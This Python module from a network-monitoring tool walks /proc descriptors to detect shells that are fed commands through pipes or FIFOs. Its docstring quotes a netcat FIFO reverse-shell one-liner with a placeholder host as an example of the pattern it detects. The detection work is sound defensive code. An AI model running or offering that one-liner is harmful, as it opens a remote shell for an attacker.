"""The shells that do what a process tells them by pipes and FIFOs (fifo(7)) though they are no children of its.

``mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`` makes all three children of the shell where it was typed.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Iterable, Iterator
from itertools import islice
from typing import TYPE_CHECKING, NamedTuple

from tcpview_tui.findings.evidence import Joined
from tcpview_tui.sources.evidence.asking import ask, link, refused
from tcpview_tui.sources.evidence.children import children, shell
from tcpview_tui.sources.proctable import read_entry
from tcpview_tui.text import safe

if TYPE_CHECKING:
    from tcpview_tui.findings.evidence import Reading

Pipe = tuple[int, int]
"""Device and inode of a pipe or FIFO: the same at both ends."""

_STANDARD, _FIRST = range(3), range(10)
"""Descriptors: the standard streams, and those that a program opens first."""

_LOOKED_AT = 128
"""Processes near one with a pipe that are looked at, nearest pids first: a job starts at one go. Some 15 us each."""

_WRAPPERS = 3
"""How often it is gone up past a parent with the same streams: sudo(8) and timeout(1) leave theirs to their child."""

_ELSE = ("socket:[", "anon_inode:", "/dev/", "/memfd:")
"""How the links of descriptors begin that are no pipe."""


class _Ends(NamedTuple):
    """The pipes that a process reads from and writes to, each with what people call it."""

    takes: dict[Pipe, str]
    gives: dict[Pipe, str]

    def shares(self, other: _Ends) -> bool:
        """Whether both have the same end of a pipe: one has left it to the other."""
        return bool(self.takes.keys() & other.takes.keys() or self.gives.keys() & other.gives.keys())


_NONE = _Ends({}, {})


def joined(process: str, parent: int) -> Reading[tuple[Joined, ...]]:
    """Return the shells that read what the process with this directory in /proc, a child of `parent`, writes.

    They are looked for among the other children of its parent, and theirs; between them there may be programs that pass
    on what they read, as cat(1) does. It takes some 30 us for a process that writes to no pipe.
    """

    def look() -> Reading[tuple[Joined, ...]]:
        try:
            return tuple(_joined(process, parent))
        except PermissionError as error:
            return refused(str(error.filename))

    return ask(look, f"{process}/fd")


def _joined(process: str, parent: int) -> Iterator[Joined]:
    own = _ends(process, _FIRST)
    if not own.gives:
        return
    top = _top(parent, own)
    near = _near(top, int(process.rpartition("/")[2]))
    heard = _reached(own.gives, near.values())
    answered = _reached(own.takes, [_Ends(ends.gives, ends.takes) for ends in near.values()])
    for pid in (top, *near):
        standard = _standard(pid)
        hears = next((name for pipe, name in standard.takes.items() if pipe in heard), "")
        answers = next((name for pipe, name in standard.gives.items() if pipe in answered), "")
        if hears and (found := shell(pid, is_joined=True)):
            yield Joined(found, hears, answers, _is_fork(pid))


def _top(parent: int, own: _Ends) -> int:
    """Return the process that has started all of the job: the first parent that did not leave its streams to it."""
    for _ in range(_WRAPPERS):
        above = read_entry(parent)
        if above is None or not above.parent or not _standard(parent).shares(own):
            break
        parent = above.parent
    return parent


def _near(top: int, pid: int) -> dict[int, _Ends]:
    """Return the ends of those that have a pipe as a standard stream: children of `top`, and theirs; not of `pid`."""
    found: dict[int, _Ends] = {}
    waiting = sorted(children(f"/proc/{top}"), key=lambda each: abs(each - pid))
    for each in islice(waiting, _LOOKED_AT):  # which grows meanwhile
        if each == pid or each in found:
            continue
        if _standard(each, must_tell=True) != _NONE:
            found[each] = _ends(f"/proc/{each}", _FIRST)
            waiting += children(f"/proc/{each}")
    return found


def _reached(pipes: Iterable[Pipe], passing: Iterable[_Ends]) -> set[Pipe]:
    """Return the pipes where what is written to `pipes` comes by, if those who read there are `passing` it on."""
    reached, waiting = set(pipes), list(passing)
    while onward := [ends for ends in waiting if not reached.isdisjoint(ends.takes)]:
        waiting = [ends for ends in waiting if ends not in onward]
        reached.update(*(ends.gives for ends in onward))
    return reached


def _standard(pid: int, *, must_tell: bool = False) -> _Ends:
    """Return the ends that are standard streams; raise PermissionError where a shell does not tell that has to."""
    try:
        return _ends(f"/proc/{pid}", _STANDARD)
    except PermissionError:
        if must_tell and shell(pid):
            raise
        return _NONE


def _ends(process: str, numbers: Iterable[int]) -> _Ends:
    """Return the ends among these descriptors. Raises PermissionError."""
    found = _Ends({}, {})
    for number in numbers:
        path = f"{process}/fd/{number}"
        try:
            name = link(path)
            if name.startswith(_ELSE):
                continue
            what, way = os.stat(path), os.lstat(path)  # noqa: PTH116 - called for each descriptor
        except (FileNotFoundError, ProcessLookupError):
            continue
        if stat.S_ISFIFO(what.st_mode):
            called = "a pipe" if name.startswith("pipe:[") else f"the FIFO {safe(name)}"
            # The bits of the link tell how the descriptor was opened (proc_pid_fd(5)).
            for ends, bit in ((found.takes, stat.S_IRUSR), (found.gives, stat.S_IWUSR)):
                if way.st_mode & bit:
                    ends[what.st_dev, what.st_ino] = called
    return found


def _is_fork(pid: int) -> bool:
    """Whether it goes on with the program of its parent: a shell forks for a loop or a list in a pipeline."""
    own = read_entry(pid)
    above = read_entry(own.parent) if own else None
    return own is not None and above is not None and own.image == above.image
